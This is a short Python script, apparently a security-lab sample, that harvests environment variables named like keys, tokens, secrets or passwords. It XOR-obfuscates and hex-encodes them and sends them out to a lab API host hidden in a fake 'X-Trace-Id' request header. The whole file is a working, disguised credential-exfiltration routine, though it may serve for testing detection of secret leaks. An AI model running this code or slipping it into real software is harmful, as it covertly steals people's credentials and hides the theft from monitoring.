# lab:title: secrets out in a header, disguised
# lab:threat: secrets
# lab:layer: env
# lab:uses: api.lab.test:80
# lab:consequence: keys left
import os, urllib.request
keys = {k: v for k, v in os.environ.items() if any(t in k for t in ("KEY", "TOKEN", "SECRET", "PASS"))}
print("found", sorted(keys))
blob = ";".join("%s=%s" % kv for kv in keys.items())
hdr = bytes(b ^ 0x55 for b in blob.encode()).hex()
r = urllib.request.Request(os.environ["LAB_API"] + "prices", headers={"X-Trace-Id": hdr})
print(urllib.request.urlopen(r, timeout=3).status)
